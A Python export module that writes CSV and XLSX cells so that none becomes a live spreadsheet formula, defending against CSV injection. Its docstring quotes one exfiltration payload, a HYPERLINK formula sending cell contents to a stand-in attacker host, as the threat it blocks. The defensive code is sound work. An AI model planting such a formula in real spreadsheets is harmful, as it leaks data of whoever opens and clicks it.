"""Rows written as CSV or XLSX so that no cell is ever a formula: the one way every export writes cells.

A customer named ``=HYPERLINK("http://evil.example/?"&A1,"Open")`` must reach a spreadsheet as that text,
not as a live formula that sends the sheet's data away when an auditor clicks it (CSV injection). Excel,
LibreOffice and Google Sheets read a cell as a formula when its text begins with ``=``, ``+``, ``-`` or ``@``
(and, after a tab or carriage return, with what follows).

- CSV: such a text cell is written with an apostrophe before it (``'=HYPERLINK(...)``), as OWASP advises;
  the spreadsheet shows it as text. A plain number (``-12.5``) is left as it is.
- XLSX: every text is an explicit string cell (openpyxl would otherwise store a text beginning with ``=`` as
  a formula), and such a cell carries the ``quotePrefix`` style, so the text stays exactly what was
  stored and editing the cell does not turn it into a formula either.

(``defusedcsv`` was weighed: it also quotes the text and escapes ``|``, changing what auditors read, and
leaves tab and carriage return alone; and it does nothing for XLSX.)
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

import numpy as np
import pandas as pd
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
BOM = "\ufeff"  # Excel opens a UTF-8 CSV with Chinese correctly only with it


def could_be_formula(value: Any) -> bool:
    """A text a spreadsheet would read as a formula (a plain number such as ``-5`` is not one)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value)


def csv_cell(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet shows as text."""
    return "'" + value if could_be_formula(value) else value


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """The rows as a UTF-8 CSV with a BOM, every cell through ``csv_cell``."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return (BOM + out.getvalue()).encode("utf-8")


def csv_frame_bytes(frame: pd.DataFrame) -> bytes:
    """A whole frame as ``csv_bytes`` writes rows (header, BOM, formula-like text prefixed by ``csv_cell``),
    column by column and once per distinct text, so that a million rows take seconds."""
    guarded = {}
    for name in frame.columns:
        column = frame[name]
        if column.dtype == object or pd.api.types.is_string_dtype(column):
            codes, uniques = pd.factorize(
                column.astype(object).where(column.notna(), ""), use_na_sentinel=False
            )
            shown = np.array(
                [csv_cell(str(value)) for value in uniques], dtype=object
            )  # once per distinct text
            column = pd.Series(shown[codes], index=column.index)
        guarded[csv_cell(str(name))] = column
    return (BOM + pd.DataFrame(guarded).to_csv(index=False, lineterminator="\r\n")).encode("utf-8")


def append_row(sheet: Worksheet, row: Iterable[Any]) -> None:
    """Append ``row`` to an openpyxl sheet, text as text (never a formula)."""
    sheet.append([_xlsx_cell(sheet, value) for value in row])


def _xlsx_cell(sheet: Worksheet, value: Any) -> Any:
    if not isinstance(value, str):
        return value
    cell = WriteOnlyCell(sheet, value)
    cell.data_type = "s"  # openpyxl makes "=…" a formula: this cell is text whatever it begins with
    if could_be_formula(value):
        cell.quotePrefix = True
    return cell


def xlsx_bytes(title: str, rows: Iterable[Iterable[Any]]) -> bytes:
    """One sheet named ``title`` holding ``rows`` (streamed: a write-only workbook), text as text."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet(title)
    for row in rows:
        append_row(sheet, row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
